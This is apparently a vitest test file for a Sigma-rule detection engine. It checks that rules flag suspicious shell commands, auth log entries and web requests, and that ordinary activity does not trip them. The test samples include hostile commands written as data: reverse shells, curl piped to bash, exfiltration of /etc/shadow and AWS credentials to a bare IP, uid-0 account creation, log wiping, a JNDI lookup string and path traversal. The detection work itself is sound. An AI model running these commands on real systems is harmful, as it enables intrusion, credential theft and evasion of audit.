import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseAccessLine } from '../src/logs/access-line.ts';
import { requestFields } from '../src/logs/web-requests.ts';
import { commandRecords } from '../src/shell/command-records.ts';
import { loadSigmaRules } from '../src/sigma/load-rules.ts';
import type { SigmaRecord } from '../src/sigma/sigma-rule.ts';
import { RULES } from './examine.ts';

const { rules } = loadSigmaRules(join(RULES, 'sigma'));
const titles = (
  records: readonly SigmaRecord[],
  floor = ['low', 'medium', 'high', 'critical', 'informational'],
): readonly string[] =>
  rules
    .filter((rule) => floor.includes(rule.level) && records.some((record) => rule.matches(record)))
    .map(({ title }) => title);
const command = (line: string, origin = 'history') =>
  commandRecords(line, { origin, user: 'root' });
const auth = (program: string, message: string): readonly SigmaRecord[] => [
  { service: 'auth', fields: { Program: program, Message: message } },
];
function web(request: string, status = 200, agent = 'Mozilla/5.0'): readonly SigmaRecord[] {
  const line = parseAccessLine(
    `198.51.100.9 - - [18/Nov/2026:02:35:00 +0000] "${request} HTTP/1.1" ${status} 12 "-" "${agent}"`,
  );
  return line === undefined ? [] : [{ category: 'webserver', fields: requestFields(line) }];
}

const found: readonly (readonly [string, readonly SigmaRecord[]])[] = [
  [
    'Starts a program in a temporary folder by itself',
    command('/var/tmp/a >/dev/null 2>&1', 'cron'),
  ],
  [
    'Starts a program in a temporary folder by itself',
    command("/bin/sh -c 'cp /x /dev/shm/k; /dev/shm/k'", 'systemd'),
  ],
  ['Starts a hidden program by itself', command('/usr/lib/.x/agent', 'systemd')],
  ['Starts a hidden program of a home folder by itself', command('/home/ana/.x/agent', 'cron')],
  ['Runs what it downloads, by itself', command('curl -s https://x.example/a | bash', 'cron')],
  ['Runs what it downloads, by itself', command('echo aWQ= | base64 -d | sh', 'login')],
  ['Preloads a library by itself', command('LD_PRELOAD=/tmp/a.so /usr/bin/x', 'login')],
  ['Shell history was switched off or removed', command('unset HISTFILE')],
  ['Shell history was switched off or removed', command('export HISTFILE=/dev/null')],
  ['Shell history was switched off or removed', command('history -c')],
  ['Shell history was switched off or removed', command('rm -f ~/.bash_history')],
  ['SUID bit was set', command('cp /bin/bash /usr/lib/x; chmod 4755 /usr/lib/x')],
  ['SUID bit was set', command('chmod u+s /usr/bin/find')],
  ['Times of a file were copied or set', command('touch -r /bin/ls /usr/lib/x')],
  ['Library was put into the preload file', command('echo /usr/lib/x.so > /etc/ld.so.preload')],
  ['Password hashes were read', command('cat /etc/shadow')],
  ['Secrets were packed', command('tar czf /tmp/l.tgz /etc/shadow /home/x/.aws')],
  ['File was sent away', command('curl -T /tmp/l.tgz http://198.51.100.2/up/')],
  ['File was sent away', command('curl -F "f=@/etc/passwd" https://x.example')],
  ['Download from a bare address', command('wget -q http://198.51.100.2/m.tgz')],
  ['Coin miner was started', command('./m -o stratum+tcp://pool.example:3333')],
  ['Coin miner was started', command('/opt/xmrig-6.2/xmrig --config c.json')],
  ['Reverse shell', command('bash -i >& /dev/tcp/198.51.100.2/4444 0>&1')],
  ['Reverse shell', command('nc 198.51.100.2 4444 -e /bin/sh; nc -e /bin/sh 198.51.100.2 4444')],
  ['Account with the rights of root was made', command('useradd -o -u 0 -g 0 sys2')],
  ['Account with the rights of root was made', command("echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd")],
  [
    'Key was added to authorized_keys',
    command('echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys'),
  ],
  ['Protection was switched off', command('systemctl stop auditd')],
  ['Protection was switched off', command('iptables -F')],
  ['File was made unchangeable', command('chattr +i /etc/ld.so.preload')],
  ['Decoded text was run', command('echo aWQ= | base64 -d | bash')],
  ['Program in a temporary or hidden folder was run by hand', command('cd /tmp/.x && ./m')],
  ['Program in a temporary or hidden folder was run by hand', command('/usr/lib/.x/bsh -p')],
  ['Log was emptied or removed', command('rm -f /var/log/auth.log')],
  ['Log was emptied or removed', command('echo > /var/log/wtmp')],
  ['Download was piped into a shell by hand', command('curl http://198.51.100.2/k.sh | sh')],
  ['Root shell through sudo', command('/bin/bash', 'sudo')],
  ['Account with uid 0 was made', auth('useradd', 'new user: name=x, UID=0, GID=0, home=/x')],
  ['Account was added to a group of administrators', auth('usermod', "add 'x' to group 'sudo'")],
  [
    'Root logged in with a password',
    auth('sshd', 'Accepted password for root from 198.51.100.2 port 1 ssh2'),
  ],
  ['Somebody tried sudo who may not', auth('sudo', 'www-data : user NOT in sudoers ; TTY=pts/0')],
  ['Commands in requests to a script', web('POST /a/b.php?c=id')],
  ['Commands in requests to a script', web('GET /x.jsp?cmd=cat+/etc/passwd')],
  ['Commands in requests to a script', web('GET /x.php?a=1&c=%75name%20-a')],
  ['Script in a folder for uploads or pictures was used', web('POST /wp-content/uploads/img.php')],
  ['Hidden script on the web server was used', web('GET /a/.cache.php')],
  [
    'File of the system was asked for through the web server',
    web('GET /cgi-bin/..%2f..%2f..%2fetc/passwd'),
  ],
  ['Attempts to look up objects through a log', web('GET /', 404, '${jndi:ldap://x}')],
  ['Vulnerability scanner', web('GET /', 200, 'sqlmap/1.7')],
];

const ordinary: readonly (readonly [string, readonly SigmaRecord[]])[] = [
  [
    'a backup with its log in /tmp',
    command('/usr/local/bin/backup.sh > /tmp/backup.log 2>&1', 'cron'),
  ],
  ['cleaning /tmp', command('find /tmp -mtime +7 -delete', 'cron')],
  [
    'a tool in a home folder',
    command('"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null', 'cron'),
  ],
  ['nvm', command('/home/ana/.nvm/versions/node/v24/bin/node /srv/app.js', 'systemd')],
  ['sourcing the usual files', command('if [ -f ~/.bashrc ]; then . ~/.bashrc; fi', 'login')],
  ['cargo', command('. "$HOME/.cargo/env"', 'login')],
  ['listing /tmp', command('ls -la /tmp')],
  ['unpacking in /tmp', command('cd /tmp && tar xzf node.tar.gz')],
  ['an update', command('sudo apt update && sudo apt upgrade')],
  ['a download with a name', command('wget https://download.example.org/x.tar.xz')],
  ['a download from the own network', command('curl http://10.0.0.5:8080/health')],
  ['instance metadata', command('curl http://169.254.169.254/latest/meta-data/')],
  ['making a script runnable', command('chmod +x deploy.sh; chmod 755 a; chmod 0644 b')],
  ['restarting a service', command('systemctl restart nginx')],
  ['an ordinary account', auth('useradd', 'new user: name=alice, UID=1001, GID=1001')],
  [
    'a key log-in',
    auth('sshd', 'Accepted publickey for root from 192.0.2.1 port 1 ssh2: ED25519 SHA256:x'),
  ],
  ['cron', auth('CRON', 'pam_unix(cron:session): session opened for user root(uid=0)')],
  ['the shop', web('POST /index.php?route=cart', 302)],
  ['a search for words', web('GET /search.php?q=red+shoes')],
  ['a picture', web('GET /images/logo.png')],
  ['a scanner that found nothing', web('POST /uploads/shell.php', 404)],
  ['a well-known file', web('GET /.well-known/security.txt')],
];

describe('when Sigma rules look at what was run and asked for', () => {
  it.each(found)('%s: fits what it is for (%#)', (title, records) => {
    expect(records).not.toEqual([]);
    expect(titles(records)).toContain(title);
  });

  it.each(ordinary)('no rule above "informational" fits %s', (_, records) => {
    expect(titles(records, ['low', 'medium', 'high', 'critical'])).toEqual([]);
  });

  it('has a sample for every rule, or a rule could be dead without anybody knowing', () => {
    expect([...new Set(found.map(([title]) => title))].sort()).toEqual(
      rules.map(({ title }) => title).sort(),
    );
  });

  it('gives every rule an id of its own', () => {
    expect(new Set(rules.map(({ id }) => id)).size).toBe(rules.length);
  });

  it('F-72 answers quickly for long and odd lines, whatever an expression makes of them', () => {
    const lines = [
      'a'.repeat(16_000),
      `curl ${'-x '.repeat(5000)}`,
      `touch ${'-a '.repeat(5000)}`,
      '|sh'.repeat(5000),
      '../'.repeat(5000),
    ];
    const before = performance.now();

    for (const line of lines) {
      titles(command(line));
      titles([
        {
          category: 'webserver',
          fields: { 'cs-uri-stem': line, 'cs-uri': line, 'cs-uri-query': line, 'sc-status': 200 },
        },
      ]);
    }

    expect(performance.now() - before).toBeLessThan(5000);
  });
});
